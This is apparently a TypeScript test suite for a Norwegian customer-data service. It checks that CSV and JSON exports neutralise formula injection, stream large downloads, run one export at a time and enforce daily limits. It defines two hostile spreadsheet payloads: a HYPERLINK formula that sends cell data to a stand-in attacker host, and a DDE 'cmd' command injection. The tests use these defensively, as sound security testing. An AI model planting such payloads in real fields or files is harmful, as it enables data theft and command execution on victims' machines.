import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { generateInvoice } from '../bench/ingest-data.ts';
import { EXPORTS_PER_DAY } from '../src/modules/privacy/export-limits.ts';
import { createWebServer } from '../src/web/server.ts';
import { ANALYSIS_CONSENT, startTestApp, type TestApp } from './app.ts';
import { HttpSession, visibleText } from './http.ts';
import { describeStores } from './stores.ts';

const HOSTILE_NAME = '=HYPERLINK("http://angriper.example/?d="&A1;"Klikk")';
const HOSTILE_TEXT = "@SUM(1+1)*cmd|' /C calc'!A0";

/** A GET whose body is read only as the test asks: the first chunk, then the rest. */
const openDownload = (url: string, cookie: string) =>
  new Promise<http.IncomingMessage>((resolve, reject) => {
    http.get(url, { headers: { cookie } }, resolve).on('error', reject);
  });

const firstChunk = (res: http.IncomingMessage) =>
  new Promise<Buffer>((resolve, reject) => {
    res.once('data', (c: Buffer) => {
      res.pause();
      resolve(c);
    });
    res.once('error', reject);
  });

const rest = async (res: http.IncomingMessage, first: Buffer): Promise<Buffer> => {
  const chunks = [first];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.resume();
  await new Promise((resolve) => res.on('end', resolve));
  return Buffer.concat(chunks);
};

/** Issue 10, points 3 and 5: hostile cells neutralised in every CSV, and exports streamed, bounded and recorded whole. */
describeStores('exports', (kind) => {
  let t: TestApp;
  let server: FastifyInstance;
  let base: string;
  let mallory: string;
  let big: string;
  let dpoId: string;

  const household = async (id: string) => {
    const session = new HttpSession(base);
    const { token } = await t.app.services.customers.createSession(id);
    (session as unknown as { cookies: Map<string, string> }).cookies.set('auth_token', token);
    return { session, cookie: `auth_token=${token}` };
  };

  const recorded = async (id: string) => ({
    exported: (
      await t.app.store.db
        .selectFrom('audit_log')
        .select('id')
        .where('subject_id', '=', id)
        .where('action', '=', 'subject.exported')
        .execute()
    ).length,
    requests: (await t.app.services.requests.ofCustomer(id)).filter((r) => r.type === 'access'),
  });

  const runStates = async (id: string, actor = 'customer') =>
    (
      await t.app.store.db
        .selectFrom('export_runs')
        .select('state')
        .where('customer_id', '=', id)
        .where('actor', '=', actor)
        .execute()
    )
      .map((r) => r.state)
      .sort();

  beforeAll(async () => {
    t = await startTestApp(kind);
    server = await createWebServer(t.app);
    await server.listen({ port: 0, host: '127.0.0.1' });
    base = `http://127.0.0.1:${(server.server.address() as AddressInfo).port}`;
    const { customers, permissions, invoices, staff } = t.app.services;
    mallory = await customers.signUp({
      name: HOSTILE_NAME,
      email: 'mallory@example.no',
      identityNumber: '14028512334',
      password: 'et langt og godt passord',
    });
    await permissions.change(mallory, ANALYSIS_CONSENT, 'web');
    await t.app.services.requests.submit(mallory, 'complaint', { text: HOSTILE_TEXT }, { channel: 'web' });
    // A household with enough invoices that its export is many megabytes: more than the
    // sockets between server and client can hold, so the server must wait for the reader.
    big = await customers.signUp({
      name: 'Stor Husholdning',
      email: 'stor@example.no',
      identityNumber: '31070551228',
      password: 'et langt og godt passord',
    });
    await permissions.change(big, ANALYSIS_CONSENT, 'web');
    const now = t.clock.now();
    for (let b = 0; b < 2400; b += 400) {
      const batch = [];
      for (let n = b; n < b + 400; n++)
        batch.push({ content: generateInvoice(0, n, Math.floor(n / 2) % 15, now).xml });
      await invoices.importDocuments(big, batch, { actor: 'test', source: 'file' });
    }
    dpoId = await staff.create({
      username: 'dpo',
      name: 'Test dpo',
      roles: ['dpo'],
      password: 'a long staff password',
    });
  }, 240_000);
  afterAll(async () => {
    await server?.close();
    await t?.close();
  });

  it('writes a hostile name and request text as text, not as a formula, in the household download and the DPO extract', async () => {
    const { session } = await household(mallory);
    const mine = await session.get('/mine-data/eksport.csv');
    expect(mine.res.status).toBe(200);
    const lines = mine.body.split('\r\n');
    // The name is quoted with a single quote in front: a spreadsheet shows it, it does not run it.
    expect(lines).toContain(`customers;1;name_enc;"'${HOSTILE_NAME.replaceAll('"', '""')}"`);
    expect(lines.some((l) => l.endsWith(`;details_enc.text;"'${HOSTILE_TEXT}"`))).toBe(true);
    // No cell of any line begins with a formula character, except numbers.
    const cells = lines.flatMap((l) => l.split(';'));
    expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d)/.test(c))).toEqual([]);

    const dpo = new HttpSession(base);
    const token = await t.app.services.staff.createSession(dpoId);
    (dpo as unknown as { cookies: Map<string, string> }).cookies.set('staff_token', token);
    const { request } = await t.app.services.requests.submit(mallory, 'access', {}, { channel: 'letter' });
    await t.app.services.requests.verifyByStaff(request.id, dpoId, 'Signert brev');
    const extract = await dpo.get(`/ansatt/foresporsel/${request.id}/utdrag/csv`);
    expect(extract.res.status).toBe(200);
    expect(extract.body).toContain(`customers;1;name_enc;"'${HOSTILE_NAME.replaceAll('"', '""')}"`);
    expect(extract.body).toContain(`;details_enc.text;"'${HOSTILE_TEXT}"`);
    // The full identity number is in the DPO's extract, as a number-like text that stays as it is.
    expect(extract.body).toContain('customers;1;fnr_enc;14028512334');
  });

  it('streams a large export: the first bytes arrive, and /helse answers, before the export is built or recorded', async () => {
    const before = await recorded(big);
    const { cookie } = await household(big);
    const res = await openDownload(`${base}/mine-data/eksport.json`, cookie);
    expect(res.statusCode).toBe(200);
    const first = await firstChunk(res);
    expect(first.length).toBeGreaterThan(0);
    // While the reader holds back, the server answers others.
    const health = await fetch(`${base}/helse`);
    expect(health.status).toBe(200);
    // Not recorded yet: the export is still being written.
    expect(await runStates(big)).toEqual(['running']);
    expect(await recorded(big)).toEqual(before);
    const body = await rest(res, first);
    const data = JSON.parse(body.toString('utf8'));
    expect(data.tables.invoices.rows).toHaveLength(2400);
    const after = await recorded(big);
    expect(after.exported).toBe(before.exported + 1);
    expect(after.requests.map((r) => r.state)).toEqual(['completed']);
    expect(await runStates(big)).toEqual(['delivered']);
  }, 120_000);

  it('lets a person run one export at a time, says so in their language, and records nothing of a download cut short', async () => {
    const { cookie, session } = await household(big);
    const before = await recorded(big);
    const res = await openDownload(`${base}/mine-data/eksport.pdf`, cookie);
    expect(res.statusCode).toBe(200);
    await firstChunk(res);
    const second = await session.get('/mine-data/eksport.csv');
    expect(second.res.status).toBe(429);
    expect(visibleText(second.body)).toContain('En nedlasting av opplysningene dine pågår allerede.');
    const english = await session.get('/mine-data/eksport.csv', { cookie: `${cookie}; lang=en` });
    expect(visibleText(english.body)).toContain('A download of your data is already running.');
    // The reader goes away before the end: the run fails, nothing is recorded, the slot is free.
    res.destroy();
    for (let i = 0; i < 2000 && (await runStates(big)).includes('running'); i++)
      await new Promise((resolve) => setTimeout(resolve, 10));
    expect(await runStates(big)).toEqual(['delivered', 'failed']);
    expect(await recorded(big)).toEqual(before);
    const again = await session.get('/mine-data/portabilitet.json');
    expect(again.res.status).toBe(200);
    expect(JSON.parse(again.body).signature.digest).toBe('SHA-512');
  }, 120_000);

  it(`allows ${EXPORTS_PER_DAY} downloads a day from Mine data, then says when to come back`, async () => {
    const { session } = await household(mallory);
    const done = (await runStates(mallory)).length;
    for (let i = done; i < EXPORTS_PER_DAY; i++)
      expect((await session.get('/mine-data/eksport.json')).res.status).toBe(200);
    const refused = await session.get('/mine-data/eksport.json');
    expect(refused.res.status).toBe(429);
    expect(visibleText(refused.body)).toContain('10 ganger det siste døgnet');
    // A day later the count starts again.
    t.clock.set(new Date(t.clock.now().getTime() + 86_400_000 + 1000));
    const fresh = await household(mallory);
    expect((await fresh.session.get('/mine-data/eksport.json')).res.status).toBe(200);
  }, 120_000);
});
